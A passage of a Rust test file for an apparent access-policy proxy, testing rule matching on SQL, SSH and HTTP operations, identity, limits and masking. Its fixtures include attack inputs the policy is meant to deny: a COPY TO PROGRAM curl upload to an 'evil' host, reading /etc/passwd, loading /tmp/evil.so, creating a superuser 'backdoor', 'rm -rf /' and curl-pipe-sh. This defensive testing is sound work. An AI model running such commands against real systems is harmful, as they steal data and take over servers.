            "job_workflow_ref",
            "acme/app/.github/workflows/ci.yml@refs/heads/main",
        ),
    ]);
    let cases: &[(&str, bool)] = &[
        ("identity.repository = \"acme/*\"", true),
        ("identity.repository = \"ACME/*\"", false),
        ("identity.repository = [\"other/*\", \"acme/app\"]", true),
        ("identity.ref = \"refs/heads/main\"", true),
        ("identity.ref = \"refs/tags/*\"", false),
        ("identity.sha = \"0123*\"", true),
        ("identity.run_id = \"99\"", true),
        ("identity.actor = \"octocat\"", true),
        ("identity.workflow = \"CI\"", true),
        (
            "identity.job_workflow_ref = \"acme/app/.github/workflows/*\"",
            true,
        ),
        ("identity.environment = \"*\"", false),
        (
            "identity.repository = \"acme/*\", identity.actor = \"someone-else\"",
            false,
        ),
    ];
    for (m, want) in cases {
        let p = one_rule(m);
        assert_eq!(
            denies(&p, &w, &t, &Operation::Connect),
            *want,
            "match {{ {m} }}"
        );
        // A deny rule's identity keys match a workload without a verified
        // identity (losing one never lifts a restriction)...
        assert!(
            denies(&p, &workload(), &t, &Operation::Connect),
            "unverified: {m}"
        );
        // ...an allow rule's never do.
        let allow = parse(&format!(
            "[defaults]\ndecision = \"deny\"\n\n[[rule]]\nname = \"r\"\ndecision = \"allow\"\nmatch = {{ {m} }}\n"
        ));
        assert_eq!(
            allow.decide(&workload(), &t, &Operation::Connect).rule,
            None,
            "unverified allow: {m}"
        );
        assert_eq!(
            allow.decide(&w, &t, &Operation::Connect).rule.is_some(),
            *want,
            "verified allow: {m}"
        );
    }
}

#[test]
fn sql_matchers() {
    let w = workload();
    let t = pg();
    let cases: &[(&str, &str, bool)] = &[
        ("sql.statement = \"drop\"", "DROP TABLE x", true),
        ("sql.statement = \"drop\"", "drop table x", true),
        (
            "sql.statement = [\"truncate\", \"drop\"]",
            "TRUNCATE x",
            true,
        ),
        ("sql.statement = \"delete\"", "SELECT 1", false),
        (
            "sql.statement = \"delete\"",
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            true,
        ),
        (
            "sql.statement = \"delete\"",
            "EXPLAIN ANALYZE DELETE FROM t",
            true,
        ),
        ("sql.statement = \"delete\"", "EXPLAIN DELETE FROM t", false),
        (
            "sql.statement = \"delete\"",
            "PREPARE p AS DELETE FROM t",
            true,
        ),
        ("sql.tables = \"users\"", "SELECT * FROM users", true),
        ("sql.tables = \"users\"", "SELECT * FROM public.users", true),
        ("sql.tables = \"users\"", "SELECT * FROM \"Users\"", true),
        (
            "sql.tables = \"public.users\"",
            "SELECT * FROM public.users",
            true,
        ),
        (
            "sql.tables = \"public.*\"",
            "SELECT * FROM public.users",
            true,
        ),
        (
            "sql.tables = \"PUBLIC.USERS\"",
            "select * from public.users",
            true,
        ),
        (
            "sql.tables = \"users\"",
            "SELECT * FROM orders WHERE uid IN (SELECT id FROM users)",
            true,
        ),
        (
            "sql.tables = \"users\"",
            "SELECT * FROM orders o JOIN users u ON u.id = o.uid",
            true,
        ),
        (
            "sql.tables = \"users\"",
            "INSERT INTO audit SELECT * FROM users",
            true,
        ),
        (
            "sql.tables = \"users\"",
            "WITH x AS (SELECT * FROM users) SELECT * FROM x",
            true,
        ),
        ("sql.tables = \"users\"", "SELECT * FROM user_roles", false),
        ("sql.tables = \"user*\"", "SELECT * FROM user_roles", true),
        (
            "sql.functions = \"pg_read_file\"",
            "SELECT pg_read_file('/etc/passwd')",
            true,
        ),
        (
            "sql.functions = \"pg_read_file\"",
            "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
            true,
        ),
        (
            "sql.functions = \"pg_*\"",
            "SELECT * FROM t WHERE x = pg_sleep(10)",
            true,
        ),
        (
            "sql.functions = \"pg_ls_dir\"",
            "SELECT * FROM pg_ls_dir('.')",
            true,
        ),
        (
            "sql.tables = \"pg_ls_dir\"",
            "SELECT * FROM pg_ls_dir('.')",
            false,
        ),
        ("sql.functions = \"lower\"", "SELECT 1", false),
        ("sql.object = \"role\"", "CREATE ROLE r", true),
        ("sql.object = \"role\"", "CREATE TABLE r (a int)", false),
        (
            "sql.object = [\"view\", \"role\"]",
            "GRANT admin TO bob",
            true,
        ),
        ("sql.object = \"table\"", "SELECT * FROM t", false),
        (
            "sql.statement = \"drop\", sql.object = \"table\"",
            "DROP VIEW v",
            false,
        ),
        (
            "sql.statement = \"drop\", sql.object = \"view\"",
            "DROP VIEW v",
            true,
        ),
        (
            "sql.action = \"copy_program\"",
            "COPY t TO PROGRAM 'x'",
            true,
        ),
        ("sql.action = \"copy_program\"", "COPY t TO STDOUT", false),
        (
            "sql.action = [\"copy_file\", \"copy_program\"]",
            "COPY t FROM '/etc/passwd'",
            true,
        ),
        (
            "sql.action = \"drop_column\"",
            "ALTER TABLE t DROP COLUMN c",
            true,
        ),
        (
            "sql.action = \"drop_column\"",
            "ALTER TABLE t ADD COLUMN c int",
            false,
        ),
        (
            "sql.action = \"set_role\"",
            "SELECT set_config('role', 'postgres', false)",
            true,
        ),
        (
            "sql.action = \"set_role\"",
            "SELECT set_config('work_mem', '1GB', false)",
            false,
        ),
        (
            "sql.object = \"table\", sql.action = \"rename\"",
            "ALTER TABLE t RENAME TO u",
            true,
        ),
        (
            "sql.object = \"table\", sql.action = \"rename\"",
            "ALTER TABLE t OWNER TO bob",
            false,
        ),
        (
            "sql.action = \"alter_system\"",
            "ALTER SYSTEM SET work_mem = '1GB'",
            true,
        ),
        ("sql.has_where = false", "DELETE FROM t", true),
        ("sql.has_where = false", "DELETE FROM t WHERE id = 1", false),
        (
            "sql.has_where = true",
            "UPDATE t SET a = 1 WHERE id = 1",
            true,
        ),
        ("sql.has_where = false", "SELECT * FROM t", false),
        ("sql.has_where = true", "SELECT * FROM t WHERE a = 1", false),
        (
            "sql.statement = \"update\", sql.has_where = false",
            "UPDATE t SET a = 1",
            true,
        ),
        (
            "sql.statement = \"update\", sql.tables = \"t\"",
            "UPDATE u SET a = 1",
            false,
        ),
    ];
    for (m, q, want) in cases {
        let p = one_rule(m);
        let d = decide_sql(&p, &w, &t, q);
        assert_eq!(
            d.verdict == Verdict::Deny,
            *want,
            "match {{ {m} }} on {q}: {}",
            d.reason
        );
    }
    // SQL matchers never match other operations.
    let p = one_rule("sql.statement = \"select\"");
    assert!(!denies(&p, &w, &t, &Operation::Connect));
    assert!(!denies(&p, &w, &t, &Operation::SshCommand("select")));
    let p = one_rule("sql.has_where = false");
    assert!(!denies(
        &p,
        &w,
        &t,
        &Operation::SqlUnparsed {
            text: "DELETE x",
            error: "e"
        }
    ));
}

#[test]
fn ssh_and_http_matchers() {
    let w = workload();
    let ssh = target(Protocol::Ssh);
    let http = target(Protocol::Http);
    let ssh_cases: &[(&str, &str, bool)] = &[
        (
            "ssh.command = \"git-upload-pack *\"",
            "git-upload-pack 'acme/app.git'",
            true,
        ),
        (
            "ssh.command = \"git-upload-pack *\"",
            "git-receive-pack 'acme/app.git'",
            false,
        ),
        ("ssh.command = \"rm -rf *\"", "rm -rf /var/lib/x", true),
        ("ssh.command = \"RM *\"", "rm -rf /", false),
        ("ssh.command = [\"sudo *\", \"su *\"]", "su - root", true),
        ("ssh.command_regex = \"^(sudo|su)\\\\b\"", "sudo -i", true),
        ("ssh.command_regex = \"^(sudo|su)\\\\b\"", "sudoku", false),
        (
            "ssh.command_regex = \"curl .*\\\\| *sh\"",
            "curl https://x | sh",
            true,
        ),
        (
            "ssh.command = \"curl *\", ssh.command_regex = \"\\\\|\"",
            "curl x",
            false,
        ),
        (
            "ssh.command = \"curl *\", ssh.command_regex = \"\\\\|\"",
            "curl x | sh",
            true,
        ),
    ];
    for (m, cmd, want) in ssh_cases {
        let p = one_rule_all_families(m);
        assert_eq!(
            denies(&p, &w, &ssh, &Operation::SshCommand(cmd)),
            *want,
            "match {{ {m} }} on {cmd}"
        );
        assert!(!denies(&p, &w, &ssh, &Operation::Connect), "connect: {m}");
    }
    let http_cases: &[(&str, (&str, &str, &str), bool)] = &[
        ("http.method = \"POST\"", ("POST", "h", "/"), true),
        ("http.method = \"post\"", ("POST", "h", "/"), true),
        (
            "http.method = [\"PUT\", \"DELETE\"]",
            ("delete", "h", "/"),
            true,
        ),
        ("http.method = \"POST\"", ("GET", "h", "/"), false),
        (
            "http.host = \"api.example.com\"",
            ("GET", "API.Example.com:443", "/"),
            true,
        ),
        (
            "http.host = \"*.example.com\"",
            ("GET", "evil.com", "/"),
            false,
        ),
        (
            "http.path = \"/admin/*\"",
            ("GET", "h", "/admin/users"),
            true,
        ),
        (
            "http.path = \"/admin/*\"",
            ("GET", "h", "/public/../admin/users"),
            true,
        ),
        (
            "http.path = \"/admin/*\"",
            ("GET", "h", "//admin//users"),
            true,
        ),
        (
            "http.path = \"/admin/*\"",
            ("GET", "h", "/%61dmin/users"),
            true,
        ),
        (
            "http.path = \"/api/users\"",
            ("GET", "h", "/api/users?id=1"),
            true,
        ),
        (
            "http.path = \"/admin/*\"",
            ("GET", "h", "/api/admin/x"),
            false,
        ),
        (
            "http.method = \"DELETE\", http.path = \"/api/*\"",
            ("DELETE", "h", "/api/x"),
            true,
        ),
        (
            "http.method = \"DELETE\", http.path = \"/api/*\"",
            ("GET", "h", "/api/x"),
            false,
        ),
    ];
    for (m, (method, host, path), want) in http_cases {
        let p = one_rule_all_families(m);
        let op = Operation::Http { method, host, path };
        assert_eq!(
            denies(&p, &w, &http, &op),
            *want,
            "match {{ {m} }} on {method} {host} {path}"
        );
        assert!(!denies(&p, &w, &http, &Operation::Connect), "connect: {m}");
    }
}

// ---------------------------------------------------------------- precedence

const PRECEDENCE: &str = r#"
[defaults]
decision = "review"
unparsed = "review"

[[rule]]
name = "allow-selects"
decision = "allow"
match = { sql.statement = "select" }

[[rule]]
name = "review-users"
decision = "review"
match = { sql.tables = "users" }

[[rule]]
name = "deny-secrets"
decision = "deny"
message = "no secrets"
match = { sql.tables = "secrets" }

[[rule]]
name = "deny-secrets-again"
decision = "deny"
match = { sql.tables = "secrets" }

[[rule]]
name = "trusted-final"
decision = "allow"
final = true
match = { identity.repository = "acme/trusted" }

[[rule]]
name = "later-final"
decision = "deny"
final = true
match = { identity.repository = "acme/*" }

[[rule]]
name = "deny-mysql"
decision = "deny"
match = { protocol = "mysql" }
"#;

#[test]
fn precedence() {
    let p = parse(PRECEDENCE);
    // Enrolled, in a repository no identity rule names.
    let w = enrolled(&[("repository", "other/app")]);
    let t = pg();
    // Only one rule matches.
    let d = decide_sql(&p, &w, &t, "SELECT 1");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Allow, Some("allow-selects"))
    );
    assert_eq!(
        d.reason,
        "rule \"allow-selects\" matched (sql.statement=select)"
    );
    // Strictest wins: review over allow.
    let d = decide_sql(&p, &w, &t, "SELECT * FROM users");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Review, Some("review-users"))
    );
    assert_eq!(
        d.reason,
        "rule \"review-users\" matched (sql.tables=users); strictest of 2 matching rules"
    );
    // Strictest wins: deny over review and allow; tie → first in file.
    let d = decide_sql(&p, &w, &t, "SELECT * FROM users JOIN secrets ON true");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("deny-secrets"))
    );
    assert_eq!(d.message.as_deref(), Some("no secrets"));
    assert!(
        d.reason.ends_with("strictest of 4 matching rules"),
        "{}",
        d.reason
    );
    // No rule → defaults.decision.
    let d = decide_sql(&p, &w, &t, "INSERT INTO t VALUES (1)");
    assert_eq!((d.verdict, d.rule.as_deref()), (Verdict::Review, None));
    assert_eq!(d.reason, "no rule matched; defaults.decision = review");
    // A final rule decides even against stricter rules...
    let trusted = enrolled(&[("repository", "acme/trusted")]);
    let d = decide_sql(&p, &trusted, &t, "SELECT * FROM secrets");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Allow, Some("trusted-final"))
    );
    assert_eq!(
        d.reason,
        "rule \"trusted-final\" matched (identity.repository=acme/trusted) and is final"
    );
    // ...and the FIRST matching final rule wins over a later final rule.
    let d = p.decide(&trusted, &t, &Operation::Connect);
    assert_eq!(d.rule.as_deref(), Some("trusted-final"));
    let other = enrolled(&[("repository", "acme/other")]);
    let d = p.decide(&other, &t, &Operation::Connect);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("later-final"))
    );
    // Connect: rules with sql.* keys never match it.
    let d = p.decide(&w, &t, &Operation::Connect);
    assert_eq!((d.verdict, d.rule), (Verdict::Review, None));
    let d = p.decide(&w, &target(Protocol::Mysql), &Operation::Connect);
    assert_eq!(d.rule.as_deref(), Some("deny-mysql"));
    // Without a verified identity, "later-final" (a deny rule for acme/*)
    // may apply: it takes part as the strictest, though not as final.
    let d = decide_sql(&p, &workload(), &t, "SELECT 1");
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("later-final"))
    );
    assert_eq!(
        d.reason,
        "rule \"later-final\" matched (identity.repository=<unverified>; a deny rule's identity.* keys match a workload without a verified identity); strictest of 2 matching rules"
    );
}

#[test]
fn unparsed_sql() {
    let base = r#"
[defaults]
decision = "allow"
unparsed = "review"
"#;
    let w = workload();
    let t = pg();
    let op = Operation::SqlUnparsed {
        text: "FROBNICATE t",
        error: "Expected: an SQL statement",
    };
    // Only defaults.unparsed.
    let p = parse(base);
    let d = p.decide(&w, &t, &op);
    assert_eq!((d.verdict, d.rule.as_deref()), (Verdict::Review, None));
    assert_eq!(
        d.reason,
        "SQL could not be classified (Expected: an SQL statement); defaults.unparsed = review"
    );
    // An allow rule without sql.* matches but is less strict than unparsed.
    let p = parse(&format!(
        "{base}\n[[rule]]\nname = \"pg-ok\"\ndecision = \"allow\"\nmatch = {{ protocol = \"postgres\" }}\n"
    ));
    assert_eq!(p.decide(&w, &t, &op).verdict, Verdict::Review);
    // A deny rule without sql.* is stricter: it decides.
    let p = parse(&format!(
        "{base}\n[[rule]]\nname = \"uid-1001\"\ndecision = \"deny\"\nmatch = {{ uid = 1001 }}\n"
    ));
    let d = p.decide(&w, &t, &op);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("uid-1001"))
    );
    // A rule with sql.* keys cannot match unparsed SQL, even a catch-all.
    let p = parse(&format!(
        "{base}\n[[rule]]\nname = \"deny-drop\"\ndecision = \"deny\"\nmatch = {{ sql.tables = \"*\" }}\n"
    ));
    assert_eq!(p.decide(&w, &t, &op).verdict, Verdict::Review);
    // unparsed = "deny" beats an allow rule.
    let p = parse(
        "[defaults]\nunparsed = \"deny\"\n\n[[rule]]\nname = \"all\"\ndecision = \"allow\"\n",
    );
    assert_eq!(p.decide(&w, &t, &op).verdict, Verdict::Deny);
    // A matching final rule still decides.
    let p = parse(&format!(
        "{base}\n[[rule]]\nname = \"trusted\"\ndecision = \"allow\"\nfinal = true\nmatch = {{ uid = 1001 }}\n"
    ));
    let d = p.decide(&w, &t, &op);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Allow, Some("trusted"))
    );
}

#[test]
fn require_identity() {
    let t = pg();
    let anon = workload();
    let known = enrolled(&[("repository", "acme/app")]);
    // defaults.require_identity applies to every operation, Connect included.
    let p = parse("[defaults]\nrequire_identity = true\n");
    let s = stmt("SELECT 1");
    for op in [
        Operation::Connect,
        Operation::Sql(&s),
        Operation::SshCommand("ls"),
        Operation::SqlUnparsed {
            text: "x",
            error: "y",
        },
    ] {
        let d = p.decide(&anon, &t, &op);
        assert_eq!(d.verdict, Verdict::Deny);
        assert_eq!(d.rule.as_deref(), Some("defaults.require_identity"));
        assert!(
            d.reason.starts_with("identity enrollment required"),
            "{}",
            d.reason
        );
        let d = p.decide(&known, &t, &op);
        assert_ne!(d.rule.as_deref(), Some("defaults.require_identity"));
        assert_ne!(d.verdict, Verdict::Deny);
    }
    // Rule-level: only when the rule matches.
    let p = parse(
        r#"
[[rule]]
name = "trusted-first"
decision = "allow"
final = true
match = { uid = 1001 }

[[rule]]
name = "prod"
decision = "allow"
require_identity = true
message = "enroll first"
match = { target.database = "prod" }
"#,
    );
    let prod = Target {
        database: Some("prod".into()),
        ..pg()
    };
    let d = p.decide(&anon, &prod, &Operation::Connect);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("prod"))
    );
    assert_eq!(d.message.as_deref(), Some("enroll first"));
    assert_eq!(
        d.reason,
        "identity enrollment required: rule \"prod\" matched (target.database=prod) and requires a verified workload identity"
    );
    // Identity requirements hold even against an earlier final rule.
    let d = decide_sql(&p, &anon, &prod, "SELECT 1");
    assert_eq!(d.verdict, Verdict::Deny);
    // Verified: normal precedence (the final rule).
    let d = p.decide(&known, &prod, &Operation::Connect);
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Allow, Some("trusted-first"))
    );
    // Rule does not match: no requirement.
    assert_eq!(
        p.decide(&anon, &pg(), &Operation::Connect).verdict,
        Verdict::Allow
    );
}

#[test]
fn decision_serializes_lowercase() {
    let d = Decision {
        verdict: Verdict::Review,
        rule: Some("r".into()),
        message: None,
        reason: "x".into(),
    };
    let json = serde_json::to_string(&d).unwrap();
    assert_eq!(
        json,
        r#"{"verdict":"review","rule":"r","message":null,"reason":"x"}"#
    );
    let t = pg();
    let json = serde_json::to_value(&t).unwrap();
    assert_eq!(json["protocol"], "postgres");
    let addr: IpAddr = "10.1.2.3".parse().unwrap();
    assert_eq!(json["addr"], addr.to_string());
}

#[test]
fn masks_for_context() {
    let p = parse(EXAMPLE);
    let t = pg();
    let m = p.masker();
    assert!(!m.is_empty());
    let dev = m.for_context(&enrolled(&[("repository", "acme/app")]), &t);
    assert!(!dev.is_empty());
    assert!(dev.column_masked("password_hash"));
    assert!(dev.column_masked("API_TOKEN"));
    assert!(dev.column_masked("SSN"));
    assert!(!dev.column_masked("email"));
    let contractor = m.for_context(&enrolled(&[("repository", "contractors/site")]), &t);
    assert!(contractor.column_masked("email"));
    assert!(contractor.column_masked("Phone_Number"));
    // No masks at all for an empty policy.
    let none = Policy::default().masker().for_context(&workload(), &t);
    assert!(none.is_empty());
    assert_eq!(
        none.mask_cell(false, CellKind::Text, "4111111111111111"),
        None
    );
}

#[test]
fn mask_match_on_target() {
    let p = parse(
        "[[mask]]\ncolumns = [\"*\"]\nmatch = { protocol = \"mysql\", target.database = \"crm\" }\n",
    );
    let crm = Target {
        database: Some("crm".into()),
        ..target(Protocol::Mysql)
    };
    assert!(
        p.masker()
            .for_context(&workload(), &crm)
            .column_masked("anything")
    );
    assert!(p.masker().for_context(&workload(), &pg()).is_empty());
}

#[test]
fn sql_object_and_action_reasons() {
    let w = workload();
    let t = pg();
    let p = one_rule(
        "sql.statement = \"alter\", sql.object = [\"view\", \"table\"], sql.action = [\"rename\", \"drop_column\"]",
    );
    let d = decide_sql(
        &p,
        &w,
        &t,
        "ALTER TABLE t DROP COLUMN a, RENAME COLUMN b TO c",
    );
    assert_eq!(
        d.reason,
        "rule \"r\" matched (sql.statement=alter, sql.object=table, sql.action=drop_column)"
    );
    assert_eq!(
        p.rules()[0].summary(),
        "sql.statement=alter sql.object=[view,table] sql.action=[rename,drop_column]"
    );
    // MySQL statements on a MySQL connection.
    let my = target(Protocol::Mysql);
    let p = one_rule("protocol = \"mysql\", sql.action = \"alter_system\"");
    let s = sql::classify("SET GLOBAL general_log = 0", Dialect::Mysql).unwrap();
    let d = p.decide(&w, &my, &Operation::Sql(&s[0]));
    assert_eq!(d.verdict, Verdict::Deny);
    assert_eq!(
        d.reason,
        "rule \"r\" matched (protocol=mysql, sql.action=alter_system)"
    );
    // sql.object/sql.action never match unparsed SQL or a connect.
    let p = one_rule("sql.object = \"other\"");
    let op = Operation::SqlUnparsed {
        text: "CREATE PUBLICATION p",
        error: "e",
    };
    assert!(!denies(&p, &w, &t, &op));
    assert!(!denies(&p, &w, &t, &Operation::Connect));
}

// ---------------------------------------------------------------- limits

const LIMITS: &str = r#"
[[limit]]
name = "everyone"
rows = 100000
bytes = 50000000

[[limit]]
name = "mysql-rows"
rows = 5000
match = { protocol = "mysql" }

[[limit]]
name = "contractors"
rows = 100
bytes = 1000000
match = { identity.repository = "contractors/*" }

[[limit]]
name = "contractors-again"
rows = 100
match = { identity.repository = "contractors/*" }

[[limit]]
name = "prod-bytes"
bytes = 10000
match = { target.database = "prod", cgroup = "/system.slice/*" }
"#;

#[test]
fn limits_select_the_tightest_bounds() {
    let p = parse(LIMITS);
    assert_eq!(p.limits().len(), 5);
    assert_eq!(p.limits()[0].line(), 2);
    assert!(!p.limits()[0].is_conditional());
    assert!(p.limits()[1].is_conditional());
    let w = enrolled(&[("repository", "acme/app")]);
    let lim = |w: &Workload, t: &Target| p.result_limit(w, t);
    let rl = |rows: Option<(u64, &str)>, bytes: Option<(u64, &str)>| ResultLimit {
        rows: rows.map(|r| r.0),
        rows_name: rows.map(|r| r.1.to_owned()),
        bytes: bytes.map(|b| b.0),
        bytes_name: bytes.map(|b| b.1.to_owned()),
    };
    // Only the unconditional limit.
    assert_eq!(
        lim(&w, &pg()),
        Some(rl(Some((100000, "everyone")), Some((50000000, "everyone"))))
    );
    // Rows from one limit, bytes from another.
    assert_eq!(
        lim(&w, &target(Protocol::Mysql)),
        Some(rl(Some((5000, "mysql-rows")), Some((50000000, "everyone"))))
    );
    // Ties go to the first limit in the file.
    let c = enrolled(&[("repository", "contractors/site")]);
    assert_eq!(
        lim(&c, &target(Protocol::Mysql)),
        Some(rl(
            Some((100, "contractors")),
            Some((1000000, "contractors"))
        ))
    );
    let prod = Target {
        database: Some("prod".into()),
        ..pg()
    };
    assert_eq!(
        lim(&c, &prod),
        Some(rl(Some((100, "contractors")), Some((10000, "prod-bytes"))))
    );
    // Without a verified identity the identity-scoped limits apply too.
    assert_eq!(
        lim(&workload(), &pg()),
        Some(rl(
            Some((100, "contractors")),
            Some((1000000, "contractors"))
        ))
    );
    // No limit at all.
    assert_eq!(parse("").result_limit(&w, &pg()), None);
    let only_mysql = parse("[[limit]]\nname = \"m\"\nrows = 1\nmatch = { protocol = \"mysql\" }\n");
    assert_eq!(only_mysql.result_limit(&w, &pg()), None);
    assert_eq!(
        only_mysql.result_limit(&w, &target(Protocol::Mysql)),
        Some(rl(Some((1, "m")), None))
    );
}

#[test]
fn result_limit_checks() {
    let l = ResultLimit {
        rows: Some(10),
        rows_name: Some("bulk".into()),
        bytes: Some(1000),
        bytes_name: Some("bytes-cap".into()),
    };
    assert_eq!(l.check(0, 0), None);
    // Reaching a bound is fine; going past it is not.
    assert_eq!(l.check(10, 1000), None);
    let e = l.check(11, 0).unwrap();
    assert_eq!(
        e,
        LimitExceeded {
            limit: "bulk".into(),
            unit: LimitUnit::Rows,
            max: 10
        }
    );
    assert_eq!(
        e.to_string(),
        "result exceeds limit \"bulk\" (more than 10 rows)"
    );
    let e = l.check(5, 1001).unwrap();
    assert_eq!(
        e.to_string(),
        "result exceeds limit \"bytes-cap\" (more than 1000 bytes)"
    );
    // Rows are reported first when both are past.
    assert_eq!(l.check(11, 1001).unwrap().unit, LimitUnit::Rows);
    let rows_only = ResultLimit {
        rows: Some(1),
        rows_name: Some("r".into()),
        ..ResultLimit::default()
    };
    assert_eq!(rows_only.check(1, u64::MAX), None);
}

// ---------------------------------------------------------------- default policy

const DEFAULT_POLICY: &str = include_str!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../systemd/policy.toml"
));

#[test]
fn default_policy_decisions() {
    let p = match Policy::parse(DEFAULT_POLICY, "systemd/policy.toml") {
        Ok(p) => p,
        Err(e) => panic!("systemd/policy.toml: {e}"),
    };
    assert_eq!(p.defaults().decision, Verdict::Allow);
    assert_eq!(p.defaults().unparsed, Verdict::Review);
    let ports: Vec<(u16, Protocol)> = p
        .intercepts()
        .iter()
        .map(|i| (i.port, i.protocol))
        .collect();
    assert_eq!(ports, [(5432, Protocol::Postgres), (3306, Protocol::Mysql)]);
    assert!(!p.masker().is_empty());

    use Verdict::{Allow as A, Deny as D, Review as R};
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, Verdict, &str)] = &[
        // Destructive DDL.
        (Dialect::Postgres, "DROP TABLE users", D, "no-destructive-ddl"),
        (Dialect::Postgres, "TRUNCATE orders", D, "no-destructive-ddl"),
        (Dialect::Mysql, "DROP DATABASE shop", D, "no-destructive-ddl"),
        (Dialect::Postgres, "ALTER TABLE users DROP COLUMN email", D, "no-column-drops"),
        (Dialect::Mysql, "ALTER TABLE users DROP email", D, "no-column-drops"),
        // Privileges, roles, identity, server configuration.
        (Dialect::Postgres, "GRANT SELECT ON users TO public", D, "no-privilege-changes"),
        (Dialect::Postgres, "GRANT pg_read_server_files TO ci", D, "no-privilege-changes"),
        (Dialect::Mysql, "REVOKE SELECT ON shop.users FROM app", D, "no-privilege-changes"),
        (Dialect::Postgres, "CREATE ROLE backdoor LOGIN SUPERUSER", D, "no-role-changes"),
        (Dialect::Postgres, "ALTER USER ci WITH SUPERUSER", D, "no-role-changes"),
        (Dialect::Mysql, "CREATE USER backdoor", D, "no-role-changes"),
        (Dialect::Postgres, "SET SESSION AUTHORIZATION postgres", D, "no-identity-or-server-changes"),
        (Dialect::Postgres, "SELECT set_config('session_authorization', 'postgres', false)", D, "no-identity-or-server-changes"),
        (Dialect::Postgres, "ALTER SYSTEM SET log_statement = 'none'", D, "no-identity-or-server-changes"),
        (Dialect::Mysql, "SET GLOBAL general_log = 0", D, "no-identity-or-server-changes"),
        (Dialect::Mysql, "SET PASSWORD = 'owned'", D, "no-identity-or-server-changes"),
        (Dialect::Postgres, "ALTER TABLE audit DISABLE TRIGGER ALL", D, "no-identity-or-server-changes"),
        (Dialect::Postgres, "ALTER FUNCTION f() SECURITY DEFINER", D, "no-identity-or-server-changes"),
        // Programs and files on the server.
        (Dialect::Postgres, "COPY users TO PROGRAM 'curl -T - https://evil'", D, "no-server-programs-or-files"),
        (Dialect::Postgres, "COPY users FROM '/etc/passwd'", D, "no-server-programs-or-files"),
        (Dialect::Postgres, "LOAD '/tmp/evil.so'", D, "no-server-programs-or-files"),
        (Dialect::Postgres, "SELECT pg_read_file('/etc/passwd')", D, "no-server-file-functions"),
        (Dialect::Postgres, "SELECT * FROM pg_catalog.pg_ls_waldir()", D, "no-server-file-functions"),
        (Dialect::Postgres, "SELECT lo_export(1234, '/tmp/x')", D, "no-server-file-functions"),
        (Dialect::Postgres, "SELECT dblink_exec('host=127.0.0.1 user=postgres', 'DROP TABLE t')", D, "no-server-file-functions"),
        (Dialect::Mysql, "SELECT LOAD_FILE('/etc/passwd')", D, "no-server-file-functions"),
        // Reviewed.
        (Dialect::Postgres, "DO $$ BEGIN PERFORM 1; END $$", R, "code-needs-approval"),
        (Dialect::Postgres, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", R, "code-objects-need-approval"),
        (Dialect::Postgres, "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", R, "code-objects-need-approval"),
        (Dialect::Postgres, "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", R, "code-objects-need-approval"),
        (Dialect::Postgres, "CREATE EXTENSION plpython3u", R, "code-objects-need-approval"),
        (Dialect::Postgres, "SET ROLE admin", R, "role-switch-needs-approval"),
        (Dialect::Mysql, "SET ROLE ALL", R, "role-switch-needs-approval"),
        (Dialect::Postgres, "UPDATE accounts SET balance = 0", R, "unbounded-writes-need-approval"),
        (Dialect::Mysql, "DELETE FROM orders", R, "unbounded-writes-need-approval"),
        // Allowed.
        (Dialect::Postgres, "SELECT * FROM users WHERE id = $1", A, ""),
        (Dialect::Postgres, "INSERT INTO orders (id, total) VALUES (1, 9.5)", A, ""),
        (Dialect::Postgres, "UPDATE orders SET total = 0 WHERE id = 7", A, ""),
        (Dialect::Mysql, "DELETE FROM orders WHERE id = 7", A, ""),
        (Dialect::Postgres, "BEGIN", A, ""),
        (Dialect::Postgres, "COMMIT", A, ""),
        (Dialect::Mysql, "START TRANSACTION", A, ""),
        (Dialect::Postgres, "SAVEPOINT s1", A, ""),
        (Dialect::Postgres, "ROLLBACK TO SAVEPOINT s1", A, ""),
        (Dialect::Postgres, "SET search_path = app, public", A, ""),
        (Dialect::Postgres, "SET statement_timeout = '30s'", A, ""),
        (Dialect::Postgres, "RESET ROLE", A, ""),
        (Dialect::Mysql, "SET NAMES utf8mb4", A, ""),
        (Dialect::Mysql, "SET autocommit = 0", A, ""),
        (Dialect::Postgres, "SHOW server_version", A, ""),
        (Dialect::Mysql, "SHOW TABLES", A, ""),
        (Dialect::Postgres, "DECLARE c CURSOR FOR SELECT * FROM t", A, ""),
        (Dialect::Postgres, "FETCH 10 FROM c", A, ""),
        (Dialect::Postgres, "CLOSE c", A, ""),
        (Dialect::Postgres, "CREATE TABLE t (id int primary key)", A, ""),
        (Dialect::Postgres, "ALTER TABLE t ADD COLUMN note text", A, ""),
        (Dialect::Postgres, "CREATE INDEX CONCURRENTLY i ON t (note)", A, ""),
        (Dialect::Postgres, "COPY t FROM STDIN", A, ""),
        (Dialect::Postgres, "COPY (SELECT * FROM t) TO STDOUT WITH CSV", A, ""),
        (Dialect::Postgres, "EXPLAIN SELECT * FROM t", A, ""),
        (Dialect::Postgres, "PREPARE q AS SELECT * FROM t WHERE id = $1", A, ""),
        (Dialect::Postgres, "EXECUTE q(1)", A, ""),
    ];
    let w = workload();
    let mut failures = Vec::new();
    for (dialect, sql_text, verdict, rule) in cases {
        let t = match dialect {
            Dialect::Postgres => pg(),
            Dialect::Mysql => target(Protocol::Mysql),
        };
        let stmts = match sql::classify(sql_text, *dialect) {
            Ok(s) if s.len() == 1 => s,
            other => {
                failures.push(format!("{dialect:?} {sql_text}: {other:?}"));
                continue;
            }
        };
        let d = p.decide(&w, &t, &Operation::Sql(&stmts[0]));
